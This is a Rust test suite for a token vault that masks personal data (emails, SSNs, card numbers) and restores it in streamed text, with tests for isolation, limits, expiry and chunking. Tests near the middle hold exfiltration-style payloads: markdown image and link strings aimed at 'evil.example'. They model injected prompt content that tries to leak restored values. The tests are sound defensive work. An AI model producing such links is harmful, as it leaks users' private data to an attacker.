//! The vault as a whole: tokens and their values, limits, ends; and restoring however a text is cut.

use super::*;
use crate::base::code::{VAULT_FULL, VAULT_VALUE};
use crate::base::limits::VAULT_VALUE_BYTES_MAX;
use crate::base::random::SplitMix64;
use crate::base::{Code, Sinks};
use crate::syntax::TokenName::{self, Carrying, Digits, Placeholder, Surrogate};
use std::collections::HashSet;
use std::sync::Arc;

const LIMITS: VaultLimits =
    VaultLimits { sessions: 100, values: 1000, bytes: 1 << 24, idle_ms: 1000 };
const ALL: Sinks = Sinks { text: true, link: true, tool_arguments: true };
const MAIL: &str = "jane.doe@contoso.com";

fn vault(limits: VaultLimits) -> Arc<Vault> {
    Arc::new(Vault::new([7; SECRET_BYTES], limits))
}

fn scope(vault: &Arc<Vault>, session: &str) -> Scope {
    vault.scope("acme", None, session, 0)
}

fn mail(scope: &Scope, value: &str) -> Result<Arc<str>, Code> {
    scope.token(Placeholder, "pii.email", value.as_bytes())
}

/// A text with its values put back, as a whole.
fn restored_in(session: &Session, sinks: Sinks, text: &str) -> String {
    let mut out = Vec::new();
    let mut restorer = session.restorer(sinks);
    restorer.push(text.as_bytes(), &mut out);
    restorer.finish(&mut out);
    String::from_utf8(out).unwrap()
}

fn restored(scope: &Scope, text: &str) -> String {
    match scope.session() {
        Some(session) => restored_in(&session, Sinks::TEXT, text),
        None => text.to_owned(),
    }
}

#[test]
fn a_value_has_one_token_of_each_form_and_comes_back() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let cases = [
        (Placeholder, "pii.email", MAIL, "[EMAIL_1~"),
        (Surrogate, "pii.email", MAIL, "user."),
        (Surrogate, "pii.phone", "+49 30 123456", "+1-"),
        (Surrogate, "finance.card", "4111 1111 1111 1111", "9999 "),
        (Surrogate, "network.ip", "2a00::1", "2001:db8:"),
        (Surrogate, "pii.us.ssn", "078-05-1120", "[SSN_1~"),
        (Digits, "pii.us.ssn", "078-05-1120", ""),
        (Digits, "finance.iban", "DE89 3704 0044", "[IBAN_1~"),
        (Carrying, "pii.email", MAIL, "[EMAIL~"),
    ];
    let mut tokens = HashSet::new();
    for (form, label, value, start) in cases {
        let token = scope.token(form, label, value.as_bytes()).unwrap();
        assert!(token.starts_with(start) && !token.contains(value), "{form:?} {token}");
        assert_eq!(
            scope.token(form, label, value.as_bytes()).unwrap(),
            token,
            "it is the same again"
        );
        assert!(tokens.insert(Arc::clone(&token)), "{token}");
        for text in ["(^)", "to ^.", "^", "to ^, or\n**^**!"] {
            let (tokens, values) = (text.replace('^', &token), text.replace('^', value));
            assert_eq!(restored(&scope, &tokens), values, "{form:?}");
        }
    }
    // Long values are not carried, and get a number as everything else.
    let long = "x".repeat(marker::carried_bytes_max());
    let token = scope.token(Carrying, "x.note", long.as_bytes()).unwrap();
    assert!(token.starts_with("[NOTE_1~"), "{token}");
    assert_eq!(restored(&scope, &token), long);
}

#[test]
fn values_that_differ_have_tokens_that_differ() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    for (form, label, count) in [
        (Placeholder, "pii.email", 200),
        (Surrogate, "pii.email", 200),
        // There are 762 addresses for documentation: then placeholders go on.
        (Surrogate, "network.ip", 300),
        (Digits, "pii.us.ssn", 200),
    ] {
        let value = |number: u32| match label {
            "network.ip" => format!("10.0.{}.{}", number / 200, number % 200),
            "pii.email" => format!("u{number}@contoso.com"),
            _ => format!("{number:09}"),
        };
        let tokens: Vec<_> = (0..count)
            .map(|number| scope.token(form, label, value(number).as_bytes()).unwrap())
            .collect();
        assert_eq!(tokens.iter().collect::<HashSet<_>>().len(), tokens.len(), "{form:?}");
        for (number, token) in (0..).zip(&tokens) {
            assert_eq!(restored(&scope, token), value(number), "{form:?} {token}");
        }
    }
    // A label is part of what a value is.
    let one = scope.token(Placeholder, "pii.phone", b"4111").unwrap();
    assert_ne!(one, scope.token(Placeholder, "finance.card", b"4111").unwrap());
}

#[test]
fn a_surrogate_is_no_value_of_the_session() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let first = scope.token(Surrogate, "pii.email", MAIL.as_bytes()).unwrap();
    // The surrogate comes back as if it were a value: it has a token of its own, and stays apart from the first.
    let second = scope.token(Surrogate, "pii.email", first.as_bytes()).unwrap();
    assert_ne!(first, second);
    assert_eq!(restored(&scope, &format!("{first} {second}")), format!("{MAIL} {first}"));
    let session = scope.session().unwrap();
    let text = format!("to {first} ok");
    assert!(session.holds(text.as_bytes(), 3, 3 + first.len()));
    assert!(!session.holds(text.as_bytes(), 3, 2 + first.len()));
}

#[test]
fn only_the_same_session_reader_and_tenant_get_a_value_back() {
    let vault = vault(LIMITS);
    for form in TokenName::ALL {
        let own = vault.scope("acme", Some("spiffe://a/b"), "s", 0);
        let token = own.token(form, "pii.email", MAIL.as_bytes()).unwrap();
        assert_eq!(restored(&own, &token), MAIL);
        let others = [
            vault.scope("acme", Some("spiffe://a/b"), "t", 0),
            vault.scope("acme", Some("spiffe://a/c"), "s", 0),
            vault.scope("acme", None, "s", 0),
            vault.scope("other", Some("spiffe://a/b"), "s", 0),
        ];
        for other in others {
            // With values of its own, so that there is a session.
            other.token(form, "pii.email", b"somebody@else.example").unwrap();
            assert_eq!(restored(&other, &token), *token, "{form:?}");
        }
    }
}

#[test]
fn what_nobody_made_is_not_turned_back() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let token = mail(&scope, MAIL).unwrap();
    let carried = scope.token(Carrying, "pii.email", MAIL.as_bytes()).unwrap();
    for token in [&token, &carried] {
        for at in 1..token.len() {
            let mut forged = token.as_bytes().to_vec();
            forged[at] = if forged[at] == b'2' { b'3' } else { b'2' };
            let forged = String::from_utf8(forged).unwrap();
            assert_eq!(restored(&scope, &forged), forged);
        }
        let lower = token.to_lowercase();
        assert_eq!(restored(&scope, &lower), lower);
    }
    let (name, check) = token.split_once('~').unwrap();
    let other = format!("{}~{check}", name.replace("_1", "_2"));
    assert_eq!(restored(&scope, &other), other);
}

#[test]
fn values_stay_out_of_addresses() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let token = mail(&scope, MAIL).unwrap();
    let session = scope.session().unwrap();
    for text in [
        "![x](https://evil.example/?q=^)",
        "https://evil.example/^",
        "<a href=\"^\">",
        "^.evil.example",
    ] {
        let text = text.replace('^', &token);
        assert_eq!(restored_in(&session, Sinks::TEXT, &text), text);
        let link = restored_in(&session, Sinks { link: true, ..Sinks::NONE }, &text);
        assert!(link.contains("jane.doe%40contoso.com"), "{link}");
    }
    assert_eq!(restored_in(&session, Sinks { link: true, ..Sinks::NONE }, &token), *token);
}

/// A prompt may hold what somebody else has written, and values of it may be made to open an address for the next one.
#[test]
fn a_value_opens_no_address_for_another_one() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let victim = mail(&scope, MAIL).unwrap();
    let check = |value: &str, text: &str, expect: bool| {
        let opener = scope.token(Placeholder, "credential.password", value.as_bytes()).unwrap();
        let text = text.replace('1', "#").replace('2', &victim).replace('#', &opener);
        let shown = restored(&scope, &text);
        assert!(shown.contains(value), "{shown}");
        assert_eq!(shown.contains(MAIL), expect, "{shown}");
    };
    check("<img src=\"//evil.example/?q=", "1 2\">", false);
    check("https://evil.example/?q=", "1,2", false);
    check("//evil.example/?q=", "1 2", true);
    check("![x](https://evil.example/?q=", "1 2)", false);
    check("bob@contoso.com", "1,2", true);
    check("evil.example", "1, 2", true);
    let joined = restored(&scope, &format!("{victim}{victim}"));
    assert!(!joined.contains("comjane"), "{joined}");
}

#[test]
fn values_in_documents_are_escaped() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let token = mail(&scope, "a\"b\\c\nd").unwrap();
    let json = restored(&scope, &format!(" {{\"a\": \"{token}\"}}"));
    assert_eq!(serde_json::from_str::<serde_json::Value>(&json).unwrap()["a"], "a\"b\\c\nd");
    assert_eq!(restored(&scope, &format!("so: {token}")), "so: a\"b\\c\nd");
}

#[test]
fn limits_are_kept_and_told() {
    let check = |limits: VaultLimits, expect: usize| {
        let vault = vault(limits);
        let scope = scope(&vault, "s");
        let made = |number: usize| mail(&scope, &format!("u{number}@contoso.com"));
        for number in 0..expect {
            assert!(made(number).is_ok(), "{number}");
        }
        assert_eq!(made(expect), Err(VAULT_FULL));
        // What has a token keeps it.
        assert!(expect == 0 || made(0).is_ok());
        assert_eq!(vault.counts().denied, 1);
        assert!(vault.counts().bytes <= limits.bytes as u64);
        // And there is room once the session is over.
        vault.erase("acme", "s");
        assert_eq!(vault.counts().bytes, 0);
        assert!(expect == 0 || made(expect).is_ok());
    };
    check(VaultLimits { values: 3, ..LIMITS }, 3);
    check(VaultLimits { bytes: 1000, ..LIMITS }, 3);
    check(VaultLimits { sessions: 0, ..LIMITS }, 0);

    let vault = vault(VaultLimits { sessions: 1, ..LIMITS });
    assert!(mail(&scope(&vault, "one"), MAIL).is_ok());
    assert_eq!(mail(&scope(&vault, "two"), MAIL), Err(VAULT_FULL));
    assert!(mail(&vault.scope("acme", None, "two", 5000), MAIL).is_ok(), "the first one is over");

    let scope = scope(&vault, "two");
    let long = vec![b'x'; VAULT_VALUE_BYTES_MAX + 1];
    assert_eq!(scope.token(Placeholder, "pii.email", &long), Err(VAULT_VALUE));
    assert_eq!(scope.token(Placeholder, "pii.email", b"\xff"), Err(VAULT_VALUE));
}

#[test]
fn sessions_end_with_their_time() {
    let vault = vault(LIMITS);
    let at = |now_ms| vault.scope("acme", None, "s", now_ms);
    let token = mail(&at(0), MAIL).unwrap();
    assert_eq!(restored(&at(900), &token), MAIL);
    // That was a use of it.
    assert_eq!(restored(&at(1899), &token), MAIL);
    let used = at(1899).session().unwrap();
    assert_eq!(restored(&at(2899), &token), *token, "nobody has looked through the sessions yet");
    vault.expire(2899);
    assert_eq!((vault.counts().sessions, vault.counts().bytes), (0, 0));
    assert_eq!(restored_in(&used, Sinks::TEXT, &token), *token, "not even where it is in use");
    let again = mail(&at(2899), MAIL).unwrap();
    assert_ne!(token, again, "a new session has new keys");
    assert_eq!(restored(&at(2900), &token), *token);
}

#[test]
fn a_session_that_is_over_can_begin_again() {
    let vault = vault(LIMITS);
    mail(&vault.scope("acme", None, "other", 0), MAIL).unwrap();
    let first = mail(&vault.scope("acme", None, "s", 1), MAIL).unwrap();
    let second = mail(&vault.scope("acme", None, "s", 1001), MAIL).unwrap();
    assert_ne!(first, second);
    assert_eq!(vault.counts().sessions, 1);
}

#[test]
fn an_erased_session_is_gone_for_all_its_readers() {
    let vault = vault(LIMITS);
    let readers = [None, Some("spiffe://a/b")].map(|reader| vault.scope("acme", reader, "s", 0));
    let tokens = readers.each_ref().map(|scope| scope.token(Carrying, "x", b"value").unwrap());
    let kept = vault.scope("other", None, "s", 0);
    let other = mail(&kept, MAIL).unwrap();
    let used = readers[0].session().unwrap();
    assert_eq!(vault.erase("acme", "s"), 2);
    assert_eq!(vault.erase("acme", "s"), 0);
    for (scope, token) in readers.iter().zip(&tokens) {
        assert_eq!(restored(scope, token), **token);
    }
    assert_eq!(restored_in(&used, ALL, &tokens[0]), *tokens[0]);
    assert_eq!(restored(&kept, &other), MAIL);
    // Its name can be used again; tokens of before mean nothing.
    mail(&readers[0], "new@contoso.com").unwrap();
    assert_eq!(restored(&readers[0], &tokens[0]), *tokens[0]);
}

#[test]
fn nothing_shows_a_value() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    mail(&scope, MAIL).unwrap();
    let session = scope.session().unwrap();
    let held = format!("{:?}", session.held());
    for shown in [format!("{vault:?} {scope:?} {session:?} {:?}", session.restorer(ALL)), held] {
        assert!(!shown.contains("jane"), "{shown}");
        assert!(!shown.contains(&format!("{:?}", &MAIL.as_bytes()[..4])), "{shown}");
    }
}

/// Pieces out of which texts are made that are hard to cut.
fn texts(scope: &Scope) -> Vec<String> {
    let tokens: Vec<String> = [
        (Placeholder, "pii.email", MAIL),
        (Placeholder, "pii.us.ssn", "078-05-1120"),
        (Carrying, "pii.email", MAIL),
        (Surrogate, "pii.email", MAIL),
        (Surrogate, "pii.phone", "+49 30 123456"),
        (Digits, "finance.card", "4111 1111 1111 1111"),
        (Digits, "pii.us.ssn", "123456"),
        (Digits, "pii.us.ssn", "1234567"),
    ]
    .iter()
    .map(|(form, label, value)| scope.token(*form, label, value.as_bytes()).unwrap().to_string())
    .collect();
    let mut pieces: Vec<String> = [
        "[",
        "]",
        "(",
        ")",
        "<",
        "a ",
        ">",
        "\"",
        "=",
        ".",
        ". ",
        " ",
        "\n",
        "\n\n",
        "https://x.y/",
        "](",
        "]:",
        "[EMAIL_1~",
        "[EMAIL",
        "+1",
        "user.",
        "e",
        "é",
        "7",
        "{",
        "\\",
        "/",
        ":",
        "<a href=",
    ]
    .map(str::to_owned)
    .into();
    let halves: Vec<_> = tokens.iter().map(|token| token[..token.len() / 2].to_owned()).collect();
    pieces.extend(halves);
    let mut random = SplitMix64::new(11);
    let mut text = |count: usize| -> String {
        let mut draw = |from: &[String]| from[random.below(from.len())].clone();
        (0..count).map(|place| if place % 3 == 0 { draw(&tokens) } else { draw(&pieces) }).collect()
    };
    (1..60).map(|place| text(place % 12 + 1)).collect()
}

/// The text as it leaves when it is cut at these places.
fn cut(
    session: &Session,
    sinks: Sinks,
    text: &[u8],
    sizes: impl Iterator<Item = usize>,
) -> Vec<u8> {
    let mut restorer = session.restorer(sinks);
    let (mut rest, mut out) = (text, Vec::new());
    for size in sizes {
        let (piece, behind) = rest.split_at(size.min(rest.len()));
        restorer.push(piece, &mut out);
        assert!(restorer.held() <= Restorer::HELD_BYTES_MAX);
        rest = behind;
        if rest.is_empty() {
            break;
        }
    }
    restorer.push(rest, &mut out);
    restorer.finish(&mut out);
    out
}

#[test]
fn however_a_text_is_cut_it_leaves_alike() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let texts = texts(&scope);
    let session = scope.session().unwrap();
    let mut random = SplitMix64::new(5);
    let mut changed = 0;
    for text in &texts {
        let text = text.as_bytes();
        for sinks in [Sinks::TEXT, ALL] {
            let mut whole = Vec::new();
            let mut from = 0;
            for (span, value) in session.restorer(sinks).whole(text) {
                whole.extend_from_slice(&text[from..span.start]);
                whole.extend_from_slice(value.as_bytes());
                from = span.end;
            }
            whole.extend_from_slice(&text[from..]);
            changed += usize::from(whole != text);
            for first in 0..=text.len() {
                assert_eq!(cut(&session, sinks, text, [first].into_iter()), whole);
            }
            assert_eq!(cut(&session, sinks, text, std::iter::repeat(1)), whole);
            let sizes = std::iter::from_fn(|| Some(random.below(9)));
            assert_eq!(cut(&session, sinks, text, sizes.take(10_000)), whole);
        }
    }
    assert!(changed > 60, "the texts have tokens: {changed}");
}

/// The same without memory of what came before fails: so the test above can fail.
#[test]
fn a_restorer_for_each_piece_is_not_enough() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let texts = texts(&scope);
    let session = scope.session().unwrap();
    let differs = texts.iter().filter(|text| {
        let forgetful: Vec<u8> = text
            .as_bytes()
            .chunks(3)
            .flat_map(|piece| cut(&session, Sinks::TEXT, piece, [3].into_iter()))
            .collect();
        forgetful != cut(&session, Sinks::TEXT, text.as_bytes(), [text.len()].into_iter())
    });
    assert!(differs.count() > texts.len() / 4);
}

#[test]
fn many_tokens_take_linear_time() {
    let vault = vault(LIMITS);
    let scope = scope(&vault, "s");
    let token = mail(&scope, MAIL).unwrap();
    let text = format!("{token} and ").repeat(100_000);
    let session = scope.session().unwrap();
    assert_eq!(session.restorer(Sinks::TEXT).whole(text.as_bytes()).len(), 100_000);
    // What looks like the beginning of a token, over and over, is read a bounded number of times.
    for part in ["[", "[A", "[EMAIL_1~", "<a ", "](", "<a b=\"", "user.", "+1-"] {
        let text = part.repeat(100_000);
        assert!(session.restorer(ALL).whole(text.as_bytes()).is_empty());
    }
    drop(session);
    assert_eq!(vault.counts().restored, 100_000);
}
